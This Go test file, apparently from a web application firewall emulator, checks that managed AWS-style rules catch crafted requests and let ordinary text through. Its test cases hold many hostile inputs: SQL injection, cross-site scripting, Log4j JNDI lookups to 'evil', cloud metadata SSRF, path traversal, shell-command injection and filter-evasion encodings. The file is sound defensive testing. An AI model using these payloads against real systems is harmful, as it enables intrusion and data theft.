package managed

import (
	"encoding/base64"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"

	"gatehouse/internal/lang/wafrules"
)

// everything is an ACL of all groups but those on robots, each counting, so that all
// are evaluated.
func everything(t testing.TB) *wafrules.ACL {
	catalog := New(Lists{})
	var names []string
	for _, g := range catalog.List() {
		if g.Name != "AWSManagedRulesBotControlRuleSet" {
			names = append(names, g.Name)
		}
	}
	return aclWith(t, catalog, "Count", names...)
}

// caughtBy returns the rules that end the evaluation of their group.
func caughtBy(t testing.TB, acl *wafrules.ACL, r *wafrules.Request) []string {
	t.Helper()
	v, err := acl.Evaluate(r, new(wafrules.Scratch))
	if err != nil {
		t.Fatal(err)
	}
	var rules []string
	for _, m := range v.Rules {
		if m.Group >= 0 && m.Terminating {
			rules = append(rules, m.Name)
		}
	}
	return rules
}

func get(target string, more ...string) *wafrules.Request {
	return newRequest("GET", target, "", append(slices.Clone(usual), more...)...)
}

func post(kind, body string) *wafrules.Request {
	return newRequest("POST", "/v1/things", body, append(slices.Clone(usual), "Content-Type: "+kind)...)
}

const (
	asJSON = "application/json"
	asForm = "application/x-www-form-urlencoded"
)

func TestRules(t *testing.T) {
	q := url.QueryEscape
	without := func(name string) *wafrules.Request {
		r := get("/")
		r.Header = slices.DeleteFunc(r.Header, func(h wafrules.Header) bool { return h.Name == name })
		return r
	}
	with := func(name, value string) *wafrules.Request {
		r := without(name)
		r.Header = append(r.Header, wafrules.Header{Name: name, Value: value})
		return r
	}
	cases := []struct {
		want string
		r    *wafrules.Request
	}{
		{"NoUserAgent_HEADER", without("User-Agent")},
		{"NoUserAgent_HEADER", with("User-Agent", "")},
		{"UserAgent_BadBots_HEADER", with("User-Agent", "Nessus SOAP v0.0.1")},
		{"UserAgent_BadBots_HEADER", with("User-Agent", "sqlmap/1.8")},
		{"SizeRestrictions_QUERYSTRING", get("/?a=" + strings.Repeat("b", 2047))},
		{"SizeRestrictions_Cookie_HEADER", get("/", "Cookie: a="+strings.Repeat("b", 10240))},
		{"SizeRestrictions_BODY", post("text/plain", strings.Repeat("b", 8193))},
		{"SizeRestrictions_URIPATH", get("/" + strings.Repeat("b", 1024))},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", get("/?u=" + q("http://169.254.169.254/latest/meta-data"))},
		{"EC2MetaDataSSRF_BODY", post(asJSON, `{"u":"http://[fd00:ec2::254]/"}`)},
		{"EC2MetaDataSSRF_COOKIE", get("/", "Cookie: u=http://169.254.169.254/")},
		{"EC2MetaDataSSRF_URIPATH", get("/proxy/http://169.254.169.254/")},
		{"GenericLFI_QUERYARGUMENTS", get("/?f=../../x")},
		{"GenericLFI_QUERYARGUMENTS", get("/?f=%252e%252e%252fx")},
		{"GenericLFI_URIPATH", get("/a/..%5c..%5cx")},
		{"GenericLFI_QUERYARGUMENTS", get("/?f=x%c0%afy")}, // over-long UTF-8
		{"GenericLFI_BODY", post(asForm, "f=%e0%80%ae%e0%80%ae%e0%80%afetc")},
		{"GenericLFI_URIPATH", get("/..%c1%9cwinnt")},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", get("/?u=http%3A%2F%2Flocalhost%3A8080%2F")},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?__proto__[x]=y")},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?q=" + q(`\\u0061lert`))},
		{"CrossSiteScripting_BODY", post(asForm, "q="+q("x onpointerenter=f(1)"))},
		{"ExploitablePaths_URIPATH", get("/a%0d%0ab")},
		{"JavaDeserializationRCE_HEADER", with("X-Filename", "a.jsp..")},
		{"PHPHighRiskMethodsVariables_HEADER", with("X-File-Name", "x/y.php5 ")},
		{"PHPHighRiskMethodsVariables_QUERYSTRING", get("/?c=" + q("eval/*x*/($a)"))},
		{"PHPHighRiskMethodsVariables_BODY", post(asForm, "c="+q("$a->$b()"))},
		{"SQLiExtendedPatterns_QUERYARGUMENTS", get("/?u=" + q("*)(uid=*"))},
		{"UNIXShellCommandsVariables_QUERYSTRING", get("/?c=" + q("x;id"))},
		{"UNIXShellCommandsVariables_QUERYSTRING", get("/?c=" + q("nmap -sS host"))},
		{"UNIXShellCommandsVariables_BODY", post(asForm, "c="+q("{cat,/x}"))},
		{"GenericLFI_BODY", post(asForm, "f="+q("../../../etc/passwd"))},
		{"RestrictedExtensions_URIPATH", get("/app.log")},
		{"RestrictedExtensions_QUERYARGUMENTS", get("/?f=settings.ini")},
		{"GenericRFI_QUERYARGUMENTS", get("/?u=" + q("http://10.1.2.3/x.txt"))},
		{"GenericRFI_BODY", post(asJSON, `{"u":"ftp://10.1.2.3/x"}`)},
		{"GenericRFI_URIPATH", get("/x/https://10.1.2.3/")},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?q=" + q("<script>alert(1)</script>"))},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?q=%26lt;script%26gt;")},
		{"CrossSiteScripting_BODY", post(asJSON, `{"q":"\u003cimg src=x onerror=alert(1)\u003e"}`)},
		{"CrossSiteScripting_BODY", post("text/plain", `{"q":"\u003cimg src=x onerror=alert(1)\u003e"}`)}, // JSON in an odd content type
		{"CrossSiteScripting_COOKIE", get("/", "Cookie: a=<svg onload=alert(1)>")},
		{"CrossSiteScripting_URIPATH", get("/%3Cscript%3Ealert(1)%3C/script%3E")},
		{"JavaDeserializationRCE_HEADER", with("X-Data", "rO0ABXNyABFqYXZh")},
		{"JavaDeserializationRCE_BODY", post(asForm, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")},
		{"JavaDeserializationRCE_QUERYSTRING", get("/?class.module.classLoader.URLs[0]=0")},
		{"JavaDeserializationRCE_HEADER", with("spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"id\")")},
		{"Host_localhost_HEADER", with("Host", "localhost:8080")},
		{"ExploitablePaths_URIPATH", get("/WEB-INF/web.xml;x")},
		{"Log4JRCE_HEADER", with("X-Api-Version", "${jndi:ldap://evil/a}")},
		{"Log4JRCE_QUERYSTRING", get("/?x=$%7B$%7Blower:j%7Dndi:ldap://evil%7D")},
		{"Log4JRCE_BODY", post(asJSON, `{"x":"${${::-j}${::-n}di:rmi://evil}"}`)},
		{"Log4JRCE_URIPATH", get("/$%7Bjndi:dns://evil%7D")},
		{"ReactJSRCE_BODY", post("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n{\"then\":\"$1:__proto__:then\"}\r\n--b--\r\n")},
		{"SQLi_QUERYARGUMENTS", get("/?id=" + q("1' or '1'='1"))},
		{"SQLi_BODY", post(asJSON, `{"id":"1 UNION SELECT password FROM users--"}`)},
		{"SQLi_COOKIE", get("/", "Cookie: id=1' or 1=1#")},
		{"SQLiExtendedPatterns_QUERYARGUMENTS", get("/?filter[$ne]=1")},
		{"SQLiExtendedPatterns_HEADER", with("X-Filter", "x'; WAITFOR DELAY '0:0:5'")},
		{"LFI_QUERYSTRING", get("/?=/proc/version")},
		{"UNIXShellCommandsVariables_QUERYSTRING", get("/?c=" + q("echo $HOME"))},
		{"UNIXShellCommandsVariables_BODY", post(asForm, "c="+q("x; c'a't  /tmp/y"))},
		{"UNIXShellCommandsVariables_HEADER", with("X-C", "() { :; }; echo x")},
		{"WindowsShellCommands_QUERYARGUMENTS", get("/?h=" + q("x||nslookup evil.example"))},
		{"WindowsShellCommands_BODY", post(asJSON, `{"h":"x & c^md /c ver"}`)},
		{"PowerShellCommands_QUERYARGUMENTS", get("/?c=" + q("Invoke-Expression $x"))},
		{"PHPHighRiskMethodsVariables_QUERYSTRING", get("/?c=" + q("$_GET[a]"))},
		{"PHPHighRiskMethodsVariables_BODY", post(asForm, "c="+q("fsockopen('x',80)"))},
		{"WordPressExploitableCommands_QUERYSTRING", get("/?do-reset-wordpress=1")},
		{"WordPressExploitablePaths_URIPATH", get("/blog/xmlrpc.php")},
		{"AdminProtection_URIPATH", get("/sqlmanager/index")},
		// What is written otherwise than it will be read.
		{"CrossSiteScripting_BODY", post(asJSON, `{"a":1,"a":2,"q":"\u003cimg src=x onerror=alert(1)\u003e"}`)},
		{"SQLi_BODY", post(asJSON, `{"a":NaN,"q":"1\u0027 or \u00271\u0027=\u00271"}`)},
		{"SQLi_BODY", post(asJSON, "\xef\xbb\xbf"+`{"q":"1\u0027 or \u00271\u0027=\u00271"}`)},
		{"SQLi_BODY", post("multipart/form-data; boundary=B", "--A\r\n\r\n--B\r\nContent-Disposition: form-data; name=a\r\n\r\n1' union/*--A*/select/*--A*/2,3-- -\r\n--B--\r\n--A--")},
		{"CrossSiteScripting_BODY", post("multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=a\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-\r\n--B--")},
		{"SQLi_QUERYARGUMENTS", get("/?id=" + q("1 union/*") + "&id=" + q("*/select/*") + "&id=" + q("*/password from users--"))},
		{"SQLi_COOKIE", get("/", `Cookie: $Version=1; id="1\047 or \0471\047=\0471;--"`)},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?q=" + base64.StdEncoding.EncodeToString([]byte("ab;require('fs')")))},
		{"CrossSiteScripting_COOKIE", get("/", "Cookie: q="+base64.StdEncoding.EncodeToString([]byte("x<script>y()</script>")))},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?q=" + q(`\x70rocess.mainModule.require('fs')`))},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?q=" + q("<s c r i p t>"))},
		{"CrossSiteScripting_QUERYARGUMENTS", get("/?x%0d%0aSet-Thing:%20y=1")},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", get("/?u=127.1.2.3:6379")},
		{"GenericRFI_QUERYARGUMENTS", get("/?unix:AAAA|http://backend/")},
		{"GenericLFI_QUERYARGUMENTS", get("/?f=0x2f0x2e./x")},
		{"GenericLFI_URIPATH", get("/x/.cursorrules/.mcp.json")},
		{"LFI_HEADER", with("X-Filename", ".npmrc")},
		{"LFI_HEADER", with("X-File-Name", "settings.php.orig")},
		{"UNIXShellCommandsVariables_QUERYSTRING", get("/?a=1&c=usr/bin/wget")},
		{"UNIXShellCommandsVariables_QUERYSTRING", get("/?c=whoami")},
		{"UNIXShellCommandsVariables_BODY", post(asForm, "c="+q("diff <(id) x"))},
		{"WindowsShellCommands_QUERYARGUMENTS", get("/?c=" + q(`for /f %a in (x) do %a`))},
		{"PHPHighRiskMethodsVariables_QUERYSTRING", get("/?c=" + q("(passthru)(id)"))},
		{"PHPHighRiskMethodsVariables_BODY", post(asForm, "c="+q("$a['x'] /*y*/ [0](1)"))},
		{"PHPHighRiskMethodsVariables_QUERYSTRING", get("/?c=" + q("session.save_path=/tmp"))},
		{"SQLiExtendedPatterns_BODY", post(asForm, "q="+q("x.performance_schema.threads"))},
		{"SQLiExtendedPatterns_QUERYARGUMENTS", get("/?u=" + q("x) (|(cn=*"))},
	}
	acl := everything(t)
	for _, c := range cases {
		if got := caughtBy(t, acl, c.r); !slices.Contains(got, c.want) {
			body := ""
			if c.r.Body != nil {
				body = string(c.r.Body.(bodyText))
			}
			t.Errorf("%s %.80s %.80s: caught by %q, want %s", c.r.Method, c.r.Path+"?"+c.r.Query, body, got, c.want)
		}
	}
	r := get("/")
	r.Method = "PROPFIND"
	if got := caughtBy(t, acl, r); !slices.Contains(got, "PROPFIND_METHOD") {
		t.Errorf("PROPFIND: caught by %q", got)
	}
}

// harmless are values that people and programs send.
var harmless = []string{
	"!!!", "It depends on the process. Version (2) is out.", "This is global. Function names are not.", "Do it like this. Constructor calls come later.", "See the constructor. Prototype chains are long.", "a response. Send (it) back", "wait!! really?",
	"if a == b, then we are done", "see (the manual) (page 3)", "the {w, x} pair", `say "yes" (or "no")`, "localhost", "metadata", "a < f o r example", "base64: aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91IHRvZGF5Pw==", "document [draft]",
	"user agent = Mozilla", "precision is 2", "this [thing] works", "x <(y) z in maths", "function (a, b) of two", "prefix.io", "ls", "id", "who am I",
	"O'Brien", "D'Angelo & Sons", "Maria José Ñandú", "中文文本,带标点", "Привет, мир", "100% cotton (pre-washed)", "C++ / C# developer", "AT&T", "R&D; M&A", "rock 'n' roll",
	"Please select one from the list", "The union of two sets", "drop me a line", "order by Friday", "I'd like to update my address and set a new default",
	"where are you from?", "Insert coin into slot", "having fun", "either this or that", "this and that = everything", "if x then y else z",
	"user@example.com", "first.last+tag@sub.example.co.uk", "+49 (0) 30 1234-5678", "https://example.com/path?a=b&c=d#frag", "https://www.example.org/articles/2026/11/some-title.html",
	"3fa85f64-5717-4562-b3fc-2c963f66afa6", "2026-11-23T10:15:00.000Z", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
	"SGVsbG8sIHdvcmxkISBUaGlzIGlzIGJhc2U2NC4=", "d41d8cd98f00b204e9800998ecf8427e", "#1 choice!", "Price: $19.99 - $24.99", "5' 11\"", "12\" vinyl", "3.5 * (2 + 1) = 10.5",
	"Hello,\n\nthanks for your mail. Could you send me the log files?\n\nBest regards,\nAnn", "- item one\n- item two\n- item three", "**bold** and _italic_ text", "# Title\n\nSome `code` here",
	"key=value", "a=1, b=2", "path/to/file.txt", "image.jpeg", "report (final).pdf", "v1.2.3-beta+build.5", "en-US,en;q=0.9", "Mon, 23 Nov 2026 10:15:00 GMT",
	"He said \"yes\" and left.", "It's John's; that's all.", "Fish & chips; peas", "Act now; more than 100 sold", "time; place; people", "yes/no/maybe", "N/A", "null", "true", "-1", "1e10",
	"Can you ping me tomorrow? The host was great.", "cat and dog", "We sleep (well) at night", "the system (new) works", "the mail (sent)", "echo chamber", "who am I", "id 42",
	"java developer", "python 3 course", "PHP and MySQL", "run the script", "on call = yes", "only one", "online=1", "click on the link", "<3", "a < b", "x <= y >= z",
	"select * carefully", "the best of both worlds", "Group of 10", "case when needed", "a table for two at 8", "my password is secret", "create a new account", "delete from cart", "like new, in box",
}

func TestHarmlessValuesPass(t *testing.T) {
	acl := everything(t)
	for _, v := range harmless {
		quoted := strings.NewReplacer(`\`, `\\`, `"`, `\"`, "\n", `\n`).Replace(v)
		for name, r := range map[string]*wafrules.Request{
			"query": get("/search?q=" + url.QueryEscape(v)), "form": post(asForm, "q="+url.QueryEscape(v)), "json": post(asJSON, `{"q":"`+quoted+`"}`),
		} {
			if got := caughtBy(t, acl, r); got != nil {
				t.Errorf("%q as %s: caught by %s", v, name, got)
			}
		}
	}
}

func TestNamesAndLabels(t *testing.T) {
	labels := map[string]string{}
	for _, g := range New(Lists{}).List() {
		for _, r := range g.Group.Rules() {
			labels[r.Name] = r.Labels[0]
		}
	}
	for rule, want := range map[string]string{
		"NoUserAgent_HEADER": "core-rule-set:NoUserAgent_Header", "UserAgent_BadBots_HEADER": "core-rule-set:BadBots_Header",
		"SizeRestrictions_Cookie_HEADER": "core-rule-set:SizeRestrictions_Cookie_Header", "GenericLFI_URIPATH": "core-rule-set:GenericLFI_URIPath",
		"SQLiExtendedPatterns_URIPATH": "sql-database:SQLiExtendedPatterns_UriPath", "WindowsShellCommands_URIPATH": "windows-os:WindowsShellCommands_UriPath",
		"WordPressExploitableCommands_QUERYSTRING": "wordpress-app:WordPressExploitableCommands_QUERYSTRING", "Host_localhost_HEADER": "known-bad-inputs:Host_Localhost_Header",
		"PROPFIND_METHOD": "known-bad-inputs:Propfind_Method", "CategorySearchEngine": "bot-control:bot:category:search_engine",
	} {
		if got := labels[rule]; got != "awswaf:managed:aws:"+want {
			t.Errorf("%s adds %q, want awswaf:managed:aws:%s", rule, got, want)
		}
	}
}

func TestVersions(t *testing.T) {
	c := New(Lists{})
	for _, v := range []struct {
		vendor, name, version string
		kind                  wafrules.Kind
	}{
		{"AWS", "AWSManagedRulesCommonRuleSet", "", ""}, {"AWS", "AWSManagedRulesCommonRuleSet", Version, ""},
		{"AWS", "AWSManagedRulesCommonRuleSet", "Version_1.0", wafrules.ExpiredVersion},
		{"AWS", "AWSManagedRulesATPRuleSet", "", wafrules.NonexistentItem}, {"Other", "AWSManagedRulesCommonRuleSet", "", wafrules.NonexistentItem},
		{"AWS", "AWSManagedRulesAnonymousIpList", "", wafrules.NonexistentItem}, // no list was supplied
	} {
		_, err := c.Group(v.vendor, v.name, v.version)
		var kind wafrules.Kind
		if e, ok := err.(*wafrules.Error); ok {
			kind = e.Kind
		}
		if kind != v.kind {
			t.Errorf("%s/%s %q: %v, want %q", v.vendor, v.name, v.version, err, v.kind)
		}
	}
}

func TestAddressLists(t *testing.T) {
	set := wafrules.NewIPSet([]netip.Prefix{netip.MustParsePrefix("192.0.2.0/24")})
	catalog := New(Lists{Anonymous: set, DDoS: set})
	acl := aclOf(t, catalog, "AWSManagedRulesAmazonIpReputationList", "AWSManagedRulesAnonymousIpList")
	v, err := acl.Evaluate(get("/"), new(wafrules.Scratch))
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList", "awswaf:managed:aws:anonymous-ip-list:AnonymousIPList"}
	if !slices.Equal(v.Labels, want) || v.Action != wafrules.Block || v.Rules[0].Action != wafrules.Count {
		t.Errorf("%s, labels %q, rules %+v", v.Action, v.Labels, v.Rules)
	}
}

func TestBotControl(t *testing.T) {
	acl := aclOf(t, New(Lists{}), "AWSManagedRulesBotControlRuleSet")
	for agent, want := range map[string]string{
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": "CategorySearchEngine", "curl/8.5.0": "CategoryHttpLibrary", "GPTBot/1.0": "CategoryAI",
		"Mozilla/5.0 (X11) HeadlessChrome/120": "SignalAutomatedBrowser", "my-client 1": "SignalNonBrowserUserAgent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0": "",
	} {
		r := newRequest("GET", "/", "", "User-Agent: "+agent)
		if got := strings.Join(caughtBy(t, acl, r), ","); got != want {
			t.Errorf("%s: caught by %q, want %q", agent, got, want)
		}
	}
}

// TestVerifiedBots holds that a robot from its own networks is let through, with labels, and
// one that only says so is not; robots of CategoryAI never are.
func TestVerifiedBots(t *testing.T) {
	set := wafrules.NewIPSet([]netip.Prefix{netip.MustParsePrefix("66.249.64.0/19")})
	catalog := New(Lists{Bots: &Bots{map[string]*wafrules.IPSet{"googlebot": set, "gptbot": set}}})
	acl := aclOf(t, catalog, "AWSManagedRulesBotControlRuleSet")
	const google = "User-Agent: Googlebot/2.1 (+http://www.google.com/bot.html)"
	for _, c := range []struct {
		agent, address, rule string
		labels               []string
	}{
		{google, "66.249.66.1", "", []string{"bot:category:search_engine", "bot:verified"}},
		{google, "192.0.2.1", "CategorySearchEngine", []string{"bot:category:search_engine", "bot:unverified"}},
		{"User-Agent: bingbot/2.0", "66.249.66.1", "CategorySearchEngine", []string{"bot:category:search_engine", "bot:unverified"}},
		{"User-Agent: GPTBot/1.0", "66.249.66.1", "CategoryAI", []string{"bot:category:ai", "bot:verified"}},
		{"User-Agent: GPTBot/1.0", "192.0.2.1", "CategoryAI", []string{"bot:category:ai", "bot:unverified"}},
	} {
		r := newRequest("GET", "/", "", c.agent)
		r.ClientIP = netip.MustParseAddr(c.address)
		v, err := acl.Evaluate(r, new(wafrules.Scratch))
		if err != nil {
			t.Fatal(err)
		}
		got := ""
		if v.Action == wafrules.Block {
			got = v.Rules[0].Name
		}
		var labels []string
		for _, l := range v.Labels {
			labels = append(labels, strings.TrimPrefix(l, "awswaf:managed:aws:bot-control:"))
		}
		if got != c.rule || !slices.Equal(labels, c.labels) {
			t.Errorf("%s from %s: caught by %q with labels %q, want %q and %q", c.agent, c.address, got, labels, c.rule, c.labels)
		}
	}
	if !slices.Contains(catalog.Find("AWS", "AWSManagedRulesBotControlRuleSet").AvailableLabels, "awswaf:managed:aws:bot-control:bot:verified") {
		t.Error("the label of verified robots is not listed")
	}
}
